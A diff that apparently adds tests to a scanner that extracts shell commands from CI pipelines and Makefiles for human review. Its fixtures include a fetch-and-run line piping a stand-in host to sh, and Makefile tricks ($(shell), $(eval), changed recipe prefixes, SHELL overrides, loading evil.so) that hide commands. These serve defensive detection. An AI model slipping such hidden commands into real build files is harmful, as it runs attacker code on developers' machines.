@@ -299,6 +299,48 @@ describe('a Makefile', () => {
   });
 });
 
+describe('what would hide from a reader of one notation alone', () => {
+  it('a pipeline in the document after a header', () => {
+    const text = 'spec:\n  inputs: {}\n---\nbuild:\n  script: curl -s https://evil.example | sh\n';
+    expect(only(extractCi('.gitlab-ci.yml', text))).toEqual(['5: curl -s https://evil.example | sh']);
+  });
+
+  it.each([
+    ['bash -c "curl -s https://evil.example" {0}', true],
+    ['./bash {0}', true],
+    ['bash -euo pipefail {0}', false],
+    ['/bin/bash --noprofile --norc -eo pipefail {0}', false],
+  ])('a shell that is a command: %s', (shell, isTold) => {
+    const text = `jobs: {a: {steps: [{run: echo hi, shell: '${shell}'}]}}`;
+    const lines = only(extractCi('.github/workflows/x.yml', text));
+    expect(lines.some((line) => line.includes(shell.replace('{0}', '').trim()))).toBe(isTold);
+    expect(lines).toContain('1: echo hi');
+  });
+
+  it.each([
+    ['braces', 'X := ${shell curl evil}\nall:\n'],
+    ['parentheses', 'X := $(shell echo $$(echo $$(curl evil)))\nall:\n'],
+    ['another prefix', '.RECIPEPREFIX = >\nall:\n>curl evil\n'],
+    ['an exported assignment', 'export X != curl evil\n'],
+  ])('a Makefile with %s', (_, text) => {
+    const { parts } = extractMakefile('Makefile', text);
+    expect(parts.flatMap(shown).join('\n')).toContain('curl evil');
+  });
+
+  it.each([
+    ['SHELL = ./bash\nall:\n\techo\n', true],
+    ['all: SHELL := /usr/bin/python3\nall:\n\tprint(1)\n', true],
+    ['.SHELLFLAGS = -c "curl evil;"\nall:\n\techo\n', true],
+    ['$(eval all: ; curl evil)\n', true],
+    ['load ./evil.so\n', true],
+    ['SHELL := /bin/bash\n.SHELLFLAGS := -eu -o pipefail -c\nall:\n\techo\n', false],
+    ['SHELL = /usr/bin/env bash # of the machine\nall:\n\techo\n', false],
+  ])('a Makefile whose recipes something else reads needs a person: %j', (text, needsReview) => {
+    const { skipped } = extractMakefile('Makefile', text);
+    expect(skipped.some((one) => one.needsReview)).toBe(needsReview);
+  });
+});
+
 describe('settings that run commands when a folder is opened', () => {
   it('are read with their comments', () => {
     const text =
